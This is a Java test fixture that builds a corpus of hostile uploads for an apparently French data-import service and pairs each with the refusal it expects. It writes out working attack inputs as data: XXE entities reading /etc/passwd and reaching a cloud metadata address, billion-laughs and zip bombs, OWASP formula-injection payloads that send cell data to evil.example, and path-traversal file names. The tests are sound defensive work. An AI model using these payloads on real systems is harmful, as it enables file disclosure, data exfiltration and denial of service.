package fr.passerelle.e2e;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The hostile files of {@link HostileUploadsTest}, generated: each with the report code and the
 * French words its refusal must hold. Sizes are kept to a few megabytes (the engine's own
 * {@code HostileInputTest} goes to 100 MB under a 64 MB heap) so the corpus crosses the stack in
 * minutes.
 */
final class HostileCorpus {

    /** A file to upload as {@code filename}, and the finding its report must show. */
    record HostileFile(String name, String filename, Supplier<byte[]> content, String code, String fragment) {
    }

    private static final int MB = 1024 * 1024;
    private static final String HEADER = "id_local,nom,nb_places";
    private static final String NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private static final String XXE = "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
    private static final String LAUGHS = laughs();

    private HostileCorpus() {
    }

    static List<HostileFile> files() {
        List<HostileFile> files = new ArrayList<>();
        String notText = "n'est pas un fichier texte CSV";
        String image = "est une image";
        add(files, "png", "carte.csv", () -> magic(bytes(0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A)), "format-error", image);
        add(files, "jpeg", "photo.csv", () -> magic(bytes(0xFF, 0xD8, 0xFF, 0xE0)), "format-error", image);
        add(files, "gif", "anim.csv", () -> magic(text("GIF89a")), "format-error", image);
        add(files, "tiff", "scan.csv", () -> magic(bytes(0x49, 0x49, 0x2A, 0x00)), "format-error", image);
        add(files, "webp", "img.csv", () -> magic(text("RIFF\0\0\0\0WEBPVP8 ")), "format-error", image);
        add(files, "pdf", "rapport.csv", () -> text("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"), "format-error", "document PDF");
        add(files, "elf", "programme.csv", () -> magic(bytes(0x7F, 'E', 'L', 'F', 2, 1, 1, 0)), "format-error", notText);
        add(files, "exe", "setup.csv", () -> magic(bytes('M', 'Z', 0x90, 0, 3, 0)), "format-error", notText);
        add(files, "gzip", "export.csv", () -> magic(bytes(0x1F, 0x8B, 8, 0, 0, 0, 0, 0)), "format-error", notText);
        add(files, "7z", "archive.csv", () -> magic(bytes('7', 'z', 0xBC, 0xAF, 0x27, 0x1C, 0, 4)), "format-error", notText);
        add(files, "rar", "archive2.csv", () -> magic(bytes('R', 'a', 'r', '!', 0x1A, 7, 0)), "format-error", notText);
        add(files, "sqlite", "base.csv", () -> magic(text("SQLite format 3\0")), "format-error", notText);
        add(files, "java class", "Main.csv", () -> magic(bytes(0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 0x3D)), "format-error", notText);
        add(files, "zip of text", "donnees.csv", () -> zip(Map.of("a.csv", text(HEADER + "\nA,B,1\n"))), "format-error",
                "archive ZIP qui n'est pas un classeur");
        add(files, "empty zip", "vide.zip", () -> zip(Map.of()), "format-error", "archive ZIP qui n'est pas un classeur");
        add(files, "docx", "note.csv", () -> zip(Map.of("[Content_Types].xml", text("<Types/>"), "word/document.xml",
                text("<document/>"))), "format-error", "document Word");
        add(files, "ods", "calc.csv", () -> zip(Map.of("mimetype", text("application/vnd.oasis.opendocument.spreadsheet"))),
                "format-error", "LibreOffice (ODS)");
        add(files, "xlsb", "classeur.xlsb", () -> zip(Map.of("xl/workbook.bin", new byte[16])), "format-error", "XLSB");
        add(files, "truncated zip", "coupe.xlsx", () -> Arrays.copyOf(xlsx(Map.of()), 200), "format-error",
                "endommagée ou incomplète");
        add(files, "ole2 garbage", "ancien.xls", () -> magic(bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1)),
                "format-error", "ni un classeur que Passerelle sait lire");

        String tooLong = "une cellule y dépasse";
        add(files, "3 MB line", "ligne.csv", () -> text("x".repeat(3 * MB)), "source-error", tooLong);
        add(files, "3 MB quoted cell", "cellule.csv", () -> text(HEADER + "\nA,\"" + "z".repeat(3 * MB) + "\",1\n"),
                "source-error", tooLong);
        add(files, "20 000 cells", "cellules.csv", () -> text(HEADER + "\n" + "a,".repeat(20_000) + "\n"), "source-error",
                tooLong);
        add(files, "a million columns", "colonnes.csv", () -> text(",".repeat(1_000_000) + "\nA,B,1\n"), "source-error",
                tooLong);
        add(files, "two million semicolons", "pointvirgule.csv", () -> text(HEADER + "\n" + ";".repeat(2_000_000)),
                "source-error", tooLong);
        add(files, "8 MB of quotes", "guillemets.csv", () -> text(HEADER + "\n" + "\"".repeat(8 * MB)), "source-error",
                tooLong);
        add(files, "quote never closed", "ouvert.csv", () -> text(HEADER + "\nA,\"B,1\n" + "C,D,2\n".repeat(400_000)),
                "source-error", tooLong);

        String unreadable = "caractères du fichier sont illisibles";
        byte[] accents = text(HEADER + "\nA,Théâtre à l'été,1\nB,Équipé,2\nC,");
        int[][] broken = {{0x80}, {0xC0, 0xAF}, {0xED, 0xA0, 0x80}, {0xE2, 0x82}, {0xFE, 0xFF},
                {0xF8, 0x88, 0x80, 0x80, 0x80}, {0xF4, 0x90, 0x80, 0x80}};
        for (int[] sequence : broken) {
            add(files, "invalid UTF-8 " + Arrays.toString(sequence), "accents.csv",
                    () -> concat(accents, bytes(sequence), text(",3\n")), "encoding-error", unreadable);
        }
        add(files, "BOM then Windows-1252", "bom.csv", () -> concat(bytes(0xEF, 0xBB, 0xBF), text(HEADER + "\nA,Th"),
                bytes(0xE9), text("atre,1\n")), "encoding-error", unreadable);
        add(files, "undefined Windows-1252 byte", "cp1252.csv", () -> concat(text(HEADER + "\nA,Salle "), bytes(0x81),
                text(",1\n")), "encoding-error", unreadable);
        add(files, "NUL bytes early", "nul.csv", () -> text(HEADER + "\nA,B\0\0C,1\n"), "format-error", notText);
        add(files, "NUL bytes far down", "nul-loin.csv", () -> text(HEADER + "\n" + "A,B,1\n".repeat(3000) + "C,D\0\0,2\n"),
                "encoding-error", "caractères nuls");
        add(files, "only NUL bytes", "zeros.csv", () -> new byte[4096], "format-error", notText);
        add(files, "UTF-16 without BOM", "utf16.csv", () -> (HEADER + "\nA,B,1\n").getBytes(StandardCharsets.UTF_16LE),
                "format-error", notText);

        String dtd = "déclarations XML (DOCTYPE ou entités)";
        String compressed = "anormalement compressé";
        add(files, "sheet bomb", "bombe.xlsx", () -> xlsxRaw("xl/worksheets/sheet1.xml", sheetStart(),
                ' ', 60), "source-error", compressed);
        add(files, "shared strings bomb", "bombe2.xlsx", () -> xlsxRaw("xl/sharedStrings.xml", "<?xml version=\"1.0\"?><sst "
                + "xmlns=\"" + NS + "\"><si><t>", '0', 60), "format-error", compressed);
        add(files, "XXE in a sheet", "xxe.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", sheet(XXE,
                row(1, "id_local", "&xxe;")))), "source-error", dtd);
        add(files, "XXE in shared strings", "xxe2.xlsx", () -> xlsx(Map.of("xl/sharedStrings.xml", "<?xml version=\"1.0\"?>"
                + XXE + "<sst xmlns=\"" + NS + "\"><si><t>&xxe;</t></si></sst>")), "format-error", dtd);
        add(files, "XXE in the workbook", "xxe3.xlsx", () -> xlsx(Map.of("xl/workbook.xml", "<?xml version=\"1.0\"?>" + XXE
                + "<workbook xmlns=\"" + NS + "\"><sheets>&xxe;</sheets></workbook>")), "format-error", dtd);
        add(files, "XXE in the content types", "xxe4.xlsx", () -> xlsx(Map.of("[Content_Types].xml", "<?xml version=\"1.0\"?>"
                + XXE + "<Types>&xxe;</Types>")), "format-error", "");
        add(files, "billion laughs in a sheet", "lol.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", sheet(LAUGHS,
                row(1, "id_local", "&lol9;")))), "source-error", dtd);
        add(files, "billion laughs in shared strings", "lol2.xlsx", () -> xlsx(Map.of("xl/sharedStrings.xml",
                "<?xml version=\"1.0\"?>" + LAUGHS + "<sst xmlns=\"" + NS + "\"><si><t>&lol9;</t></si></sst>")),
                "format-error", dtd);
        add(files, "billion laughs in the workbook", "lol3.xlsx", () -> xlsx(Map.of("xl/workbook.xml", "<?xml version=\"1.0\"?>"
                + LAUGHS + "<workbook xmlns=\"" + NS + "\"><sheets>&lol9;</sheets></workbook>")), "format-error", dtd);
        add(files, "5 000 sheets", "feuilles.xlsx", () -> xlsxSheets(5_000), "format-error", "fichiers internes");
        add(files, "1 200 sheets", "feuilles2.xlsx", () -> xlsxSheets(1_200), "format-error", "feuilles : Passerelle refuse");
        add(files, "column XFD", "xfd.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", sheet("", validRows()
                + "<row r=\"3\"><c r=\"XFD3\"><v>1</v></c></row>"))), "source-error", "au-delà de la colonne");
        add(files, "seven-letter column", "col.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", sheet("", validRows()
                + "<row r=\"3\"><c r=\"ZZZZZZZ3\"><v>1</v></c></row>"))), "source-error", "au-delà de la colonne");
        add(files, "row number beyond long", "ligne.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", sheet("",
                validRows() + "<row r=\"99999999999999999999999\"><c><v>1</v></c></row>"))), "source-error",
                "s'est arrêtée à la ligne");
        add(files, "row number not a number", "ligne2.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", sheet("",
                validRows() + "<row r=\"abc\"><c><v>1</v></c></row>"))), "source-error", "s'est arrêtée à la ligne");
        add(files, "sheet cut mid-tag", "coupe2.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", sheetStart()
                + validRows() + "<row r=\"3\"><c r=\"A3\" t=\"inl")), "source-error", "s'est arrêtée à la ligne");
        add(files, "sheet not XML", "pasxml.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", "\0\0 not xml")),
                "source-error", "s'est arrêtée à la ligne");
        add(files, "missing sheet part", "manque.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", "")), "format-error",
                "");
        add(files, "33 MB OLE2 file", "gros.xls", () -> Arrays.copyOf(magic(bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1,
                0x1A, 0xE1)), 33 * MB), "format-error", "");

        String limits = "dépasse les limites de lecture";
        add(files, "nested arrays", "tableaux.json", () -> text("[".repeat(100_000) + "]".repeat(100_000)), "format-error",
                limits);
        add(files, "nested object", "objet.json", () -> text("[{\"id_local\":" + "{\"a\":".repeat(100_000) + "1"
                + "}".repeat(100_000) + "}]"), "format-error", limits);
        add(files, "a million digits", "nombre.json", () -> text("[{\"nb_places\":" + "9".repeat(1_000_000) + "}]"),
                "format-error", limits);
        add(files, "2 MB string", "texte.json", () -> text("[{\"nom\":\"" + "x".repeat(2 * MB) + "\"}]"), "format-error", limits);
        add(files, "2 MB key", "cle.json", () -> text("[{\"" + "k".repeat(2 * MB) + "\":1}]"), "format-error", limits);
        add(files, "300 000 keys", "cles.json", () -> {
            StringBuilder json = new StringBuilder("[{");
            for (int i = 0; i < 300_000; i++) {
                json.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":1");
            }
            return text(json.append("}]").toString());
        }, "format-error", "clés différentes");
        add(files, "2 million values", "valeurs.json", () -> text("[{\"id_local\":\"A\",\"nom\":[" + "0,".repeat(2_000_000)
                + "0]}]"), "format-error", "démesuré");
        add(files, "row not an object", "liste.json", () -> text("[{\"id_local\":\"A\"},[1,2]]"), "source-error",
                "n'est pas un objet");
        add(files, "cut JSON", "coupe.json", () -> text("[{\"id_local\":\"A\"},{\"id_local\":"), "source-error", "mal formé");
        add(files, "garbage JSON", "bruit.json", () -> text("[\u0001\u0002garbage"), "format-error", "mal formé");
        add(files, "GeoJSON without features", "geo.geojson", () -> text("{\"type\":\"FeatureCollection\",\"features\":{}}"),
                "format-error", "ni une liste d'objets");
        add(files, "GeoJSON nested coordinates", "geo2.geojson", () -> text("{\"type\":\"FeatureCollection\",\"features\":"
                + "[{\"type\":\"Feature\",\"properties\":{\"id_local\":\"A\"},\"geometry\":{\"type\":\"Point\","
                + "\"coordinates\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}}]}"), "format-error", limits);
        moreOfTheSameKinds(files, notText, image, tooLong, unreadable, dtd, limits);
        return files;
    }

    /**
     * Variants that go down the same refusal paths by other bytes: other magic numbers, other cuts,
     * other invalid sequences, other ways to reach an external entity.
     */
    private static void moreOfTheSameKinds(List<HostileFile> files, String notText, String image, String tooLong,
                                           String unreadable, String dtd, String limits) {
        add(files, "big-endian tiff", "plan.csv", () -> magic(bytes(0x4D, 0x4D, 0x00, 0x2A)), "format-error", image);
        add(files, "exif jpeg", "appareil.csv", () -> magic(bytes(0xFF, 0xD8, 0xFF, 0xE1)), "format-error", image);
        add(files, "gif87a", "vieux.csv", () -> magic(text("GIF87a")), "format-error", image);
        add(files, "png named xlsx", "classeur.xlsx", () -> magic(bytes(0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A)),
                "format-error", image);
        add(files, "pdf 1.4", "vieux.csv", () -> text("%PDF-1.4\n%âãÏÓ\n"), "format-error", "document PDF");
        add(files, "pdf named json", "donnees.json", () -> text("%PDF-2.0\n"), "format-error", "document PDF");
        add(files, "mach-o", "outil.csv", () -> magic(bytes(0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1)), "format-error", notText);
        add(files, "webassembly", "module.csv", () -> magic(bytes(0, 'a', 's', 'm', 1, 0, 0, 0)), "format-error", notText);
        add(files, "mp4", "video.csv", () -> magic(concat(bytes(0, 0, 0, 0x20), text("ftypisom"))), "format-error", notText);
        add(files, "bzip2 with NULs", "export.csv.bz2", () -> magic(concat(text("BZh91AY&SY"), bytes(0, 0, 0, 0))),
                "format-error", notText);
        add(files, "zip of xml", "donnees.xml.csv", () -> zip(Map.of("data.xml", text("<a/>"))), "format-error",
                "archive ZIP qui n'est pas un classeur");
        add(files, "zip of a zip", "double.csv", () -> zip(Map.of("inner.zip", zip(Map.of()))), "format-error",
                "archive ZIP qui n'est pas un classeur");
        add(files, "odt", "lettre.csv", () -> zip(Map.of("mimetype", text("application/vnd.oasis.opendocument.text"))),
                "format-error", "document Word");
        for (int length : new int[] {30, 100, 600}) {
            add(files, "xlsx cut at " + length + " bytes", "coupe" + length + ".xlsx",
                    () -> Arrays.copyOf(xlsx(Map.of()), length), "format-error", "endommagée ou incomplète");
        }
        add(files, "5 MB line", "ligne5.csv", () -> text("y;".repeat(5 * MB / 2)), "source-error", tooLong);
        add(files, "3 MB line in CRLF file", "crlf.csv", () -> text(HEADER + "\r\nA,B,1\r\n" + "w".repeat(3 * MB) + "\r\n"),
                "source-error", tooLong);
        add(files, "3 MB cell after mixed line ends", "mixte.csv", () -> text(HEADER + "\r\nA,B,1\nC,D,2\rE,\""
                + "q".repeat(3 * MB) + "\",3\n"), "source-error", tooLong);
        byte[] accents = text(HEADER + "\nA,Théâtre à l'été,1\nB,Équipé,2\nC,");
        int[][] broken = {{0xC1, 0xBF}, {0xE0, 0x80, 0x80}, {0xF5, 0x80, 0x80, 0x80}, {0xBF}, {0xF0, 0x9F, 0x98}};
        for (int[] sequence : broken) {
            add(files, "invalid UTF-8 " + Arrays.toString(sequence), "accents2.csv",
                    () -> concat(accents, bytes(sequence), text(",3\n")), "encoding-error", unreadable);
        }
        add(files, "NUL in the header", "entete.csv", () -> text("id_local\0,nom,nb_places\nA,B,1\n"), "format-error",
                notText);
        add(files, "UTF-32", "utf32.csv", () -> (HEADER + "\nA,B,1\n").getBytes(java.nio.charset.Charset.forName("UTF-32LE")),
                "format-error", notText);
        add(files, "external DTD in a sheet", "dtd.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", sheet(
                "<!DOCTYPE x SYSTEM \"http://169.254.169.254/latest/meta-data/\">", row(1, "id_local", "a")))),
                "source-error", dtd);
        add(files, "parameter entity in a sheet", "param.xlsx", () -> xlsx(Map.of("xl/worksheets/sheet1.xml", sheet(
                "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://127.0.0.1:8081/\"> %p;]>", row(1, "id_local", "a")))),
                "source-error", dtd);
        add(files, "XXE over http in shared strings", "xxe5.xlsx", () -> xlsx(Map.of("xl/sharedStrings.xml",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"http://127.0.0.1:9000/\">]><sst xmlns=\"" + NS
                        + "\"><si><t>&e;</t></si></sst>")), "format-error", dtd);
        add(files, "2 000 sheets", "feuilles3.xlsx", () -> xlsxSheets(2_000), "format-error", "feuilles : Passerelle refuse");
        add(files, "nested arrays in a row", "ligne-imbriquee.json", () -> text("[{\"id_local\":\"A\",\"nom\":"
                + "[".repeat(50_000) + "]".repeat(50_000) + "}]"), "format-error", limits);
        add(files, "3 MB string in GeoJSON", "geo3.geojson", () -> text("{\"type\":\"FeatureCollection\",\"features\":"
                + "[{\"type\":\"Feature\",\"properties\":{\"nom\":\"" + "x".repeat(3 * MB) + "\"},\"geometry\":null}]}"),
                "format-error", limits);
    }

    /** File names staff (or a script) might send, each to be cut down to one safe segment of the object key. */
    /**
     * OWASP's CSV injection payloads, as cell values of an otherwise valid file: each must reach every CSV
     * Passerelle serves (latest.csv, errors.csv, annotated.csv) neutralised, in either spreadsheet dialect.
     */
    static List<String> formulaPayloads() {
        return List.of("=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1, \"Cliquez\")",
                "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
                "x;=2+3;y", "x,=2+3,y", "a; @SUM(A1)", "\t=1+1", "＝1+1");
    }

    static List<String> hostileNames() {
        return List.of("../../../../etc/passwd", "..\\..\\windows\\system32\\config.csv", "....//....//x.csv",
                "%2e%2e%2fsecret.csv", "velos\u202Evsc.exe", "nom\u0000.csv", "\u001B[31mrouge.csv", "a\tb\nc.csv",
                "\uFEFFbom.csv", "..", "~/.ssh/id_rsa", "/dev/zero", "x/../../y.csv", "n".repeat(5000) + ".csv",
                "émoji 🚲 vélo.csv", "a:b*c?d\"e<f>g|h.csv");
    }

    private static void add(List<HostileFile> files, String name, String filename, Supplier<byte[]> content, String code,
                            String fragment) {
        files.add(new HostileFile(name, filename, content, code, fragment));
    }

    static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    /** A magic number then 4 KB of filler. */
    static byte[] magic(byte[] head) {
        byte[] file = new byte[4096];
        System.arraycopy(head, 0, file, 0, head.length);
        for (int i = head.length; i < file.length; i++) {
            file[i] = (byte) (i * 31);
        }
        return file;
    }

    static byte[] zip(Map<String, byte[]> entries) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static String sheetStart() {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"" + NS + "\"><sheetData>";
    }

    private static String sheet(String prolog, String rows) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + prolog + "<worksheet xmlns=\"" + NS + "\"><sheetData>" + rows
                + "</sheetData></worksheet>";
    }

    private static String row(int number, String... texts) {
        StringBuilder row = new StringBuilder("<row r=\"" + number + "\">");
        for (int i = 0; i < texts.length; i++) {
            row.append("<c r=\"").append((char) ('A' + i)).append(number).append("\" t=\"inlineStr\"><is><t>")
                    .append(texts[i]).append("</t></is></c>");
        }
        return row.append("</row>").toString();
    }

    private static String validRows() {
        return row(1, "id_local", "nom", "nb_places") + row(2, "A", "B", "1");
    }

    /** An XLSX of one sheet (plus shared strings), with parts replaced; an empty text removes the part. */
    static byte[] xlsx(Map<String, String> overrides) {
        return zip(xlsxEntries(1, overrides));
    }

    private static byte[] xlsxSheets(int sheets) {
        return zip(xlsxEntries(sheets, Map.of()));
    }

    /** An XLSX whose part {@code name} is {@code start} followed by megabytes of {@code filler}: a zip bomb. */
    private static byte[] xlsxRaw(String name, String start, char filler, int megabytes) {
        Map<String, byte[]> entries = xlsxEntries(1, Map.of());
        ByteArrayOutputStream part = new ByteArrayOutputStream();
        part.writeBytes(text(start));
        byte[] block = String.valueOf(filler).repeat(MB).getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < megabytes; i++) {
            part.writeBytes(block);
        }
        entries.put(name, part.toByteArray());
        return zip(entries);
    }

    private static Map<String, byte[]> xlsxEntries(int sheets, Map<String, String> overrides) {
        StringBuilder types = new StringBuilder("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/"
                + "package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-"
                + "package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override "
                + "PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml."
                + "sheet.main+xml\"/><Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/vnd."
                + "openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/>");
        StringBuilder workbook = new StringBuilder("<?xml version=\"1.0\"?><workbook xmlns=\"" + NS + "\" xmlns:r=\"http://"
                + "schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>");
        StringBuilder rels = new StringBuilder("<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats"
                + ".org/package/2006/relationships\"><Relationship Id=\"rIdS\" Type=\"http://schemas.openxmlformats.org/"
                + "officeDocument/2006/relationships/sharedStrings\" Target=\"sharedStrings.xml\"/>");
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 1; i <= sheets; i++) {
            types.append("<Override PartName=\"/xl/worksheets/sheet").append(i).append(".xml\" ContentType=\"application/"
                    + "vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>");
            workbook.append("<sheet name=\"F").append(i).append("\" sheetId=\"").append(i).append("\" r:id=\"rId")
                    .append(i).append("\"/>");
            rels.append("<Relationship Id=\"rId").append(i).append("\" Type=\"http://schemas.openxmlformats.org/"
                    + "officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet").append(i).append(".xml\"/>");
            entries.put("xl/worksheets/sheet" + i + ".xml", text(sheet("", validRows())));
        }
        entries.put("[Content_Types].xml", text(types.append("</Types>").toString()));
        entries.put("_rels/.rels", text("<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/"
                + "package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/"
                + "officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>"));
        entries.put("xl/workbook.xml", text(workbook.append("</sheets></workbook>").toString()));
        entries.put("xl/_rels/workbook.xml.rels", text(rels.append("</Relationships>").toString()));
        entries.put("xl/sharedStrings.xml", text("<?xml version=\"1.0\"?><sst xmlns=\"" + NS + "\"><si><t>x</t></si></sst>"));
        overrides.forEach((name, xml) -> {
            if (xml.isEmpty()) {
                entries.remove(name);
            } else {
                entries.put(name, text(xml));
            }
        });
        return entries;
    }

    private static String laughs() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (int level = 1; level <= 9; level++) {
            String previous = level == 1 ? "lol" : "lol" + (level - 1);
            dtd.append("<!ENTITY lol").append(level).append(" \"").append(("&" + previous + ";").repeat(10)).append("\">");
        }
        return dtd.append("]>").toString();
    }
}
